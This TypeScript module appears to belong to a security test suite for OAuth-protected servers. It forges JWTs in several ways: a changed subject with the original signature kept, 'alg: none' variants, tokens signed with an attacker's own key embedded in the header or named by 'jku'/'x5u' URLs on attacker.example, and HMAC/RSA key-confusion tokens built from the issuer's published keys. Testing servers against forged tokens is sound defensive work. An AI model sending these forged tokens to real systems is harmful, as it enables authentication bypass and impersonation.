import {
  decodeJwt,
  decodeProtectedHeader,
  exportJWK,
  exportSPKI,
  generateKeyPair,
  importJWK,
  type JWK,
  type JWTPayload,
  SignJWT,
  UnsecuredJWT,
} from 'jose';
import { exchange, json } from './exchange.ts';
import { findMetadata, type Subject } from './subject.ts';
import { NotApplicable } from './test-case.ts';

/** Parts of a token that an attacker holds, and can take apart but not sign. */
export type Held = { token: string; header: Record<string, unknown>; claims: JWTPayload };

/** @throws {NotApplicable} when access tokens of this server are no JWTs */
export function takeApart(token: string): Held {
  try {
    return { token, header: { ...decodeProtectedHeader(token) }, claims: decodeJwt(token) };
  } catch {
    throw new NotApplicable('the token is not a JWT');
  }
}

/** The token with another subject, and the signature that it had. */
export function altered({ token, claims }: Held): string {
  const [header, , signature] = token.split('.');
  const payload = Buffer.from(JSON.stringify({ ...claims, sub: `${claims.sub}x` })).toString('base64url');
  return [header, payload, signature].join('.');
}

/** The claims, unsigned: `alg` is `none`, in a spelling of the attacker's. */
export function unsigned({ header, claims }: Held, alg: string): string {
  const plain = new UnsecuredJWT(claims).encode();
  const spelled = Buffer.from(JSON.stringify({ ...header, alg })).toString('base64url');
  return [spelled, plain.split('.')[1], ''].join('.');
}

/** The claims, signed with a key of the attacker's that travels in the header, or is named there by URL. */
export async function ownKey({ header, claims }: Held): Promise<string[]> {
  const { privateKey, publicKey } = await generateKeyPair('RS256');
  const sign = (extra: object) =>
    new SignJWT(claims).setProtectedHeader({ ...header, alg: 'RS256', ...extra }).sign(privateKey);
  return Promise.all([
    sign({}),
    sign({ jwk: await exportJWK(publicKey) }),
    sign({ jku: 'https://attacker.example/jwks.json' }),
    sign({ x5u: 'https://attacker.example/certificate.pem' }),
  ]);
}

/** The issuer's published keys. */
async function publicKeys(subject: Subject): Promise<JWK[]> {
  const { document } = await findMetadata(subject, '2026-07-28');
  const [issuer] = [document?.authorization_servers].flat();
  if (typeof issuer !== 'string') throw new NotApplicable('no authorization server is named');
  const metadata = json(await exchange(new URL('/.well-known/oauth-authorization-server', issuer)));
  const { jwks_uri: url } = (metadata ?? {}) as { jwks_uri?: unknown };
  if (typeof url !== 'string') throw new NotApplicable('the issuer publishes no keys');
  const { keys } = (json(await exchange(url)) ?? {}) as { keys?: JWK[] };
  return keys ?? [];
}

/** The claims, signed with HMAC and a published key as the secret, in the forms a library might take it. */
export async function confused(subject: Subject, { header, claims }: Held): Promise<string[]> {
  const keys = (await publicKeys(subject)).filter(({ kty }) => kty === 'RSA');
  const secrets = await Promise.all(
    keys.map(async (jwk) => {
      const key = await importJWK({ ...jwk, ext: true }, 'RS256', { extractable: true });
      if (key instanceof Uint8Array) return [];
      const pem = await exportSPKI(key);
      return [pem, pem.trim(), JSON.stringify(jwk)].map((text) => new TextEncoder().encode(text));
    }),
  );
  return Promise.all(
    secrets
      .flat()
      .map((secret) => new SignJWT(claims).setProtectedHeader({ ...header, alg: 'HS256' }).sign(secret)),
  );
}
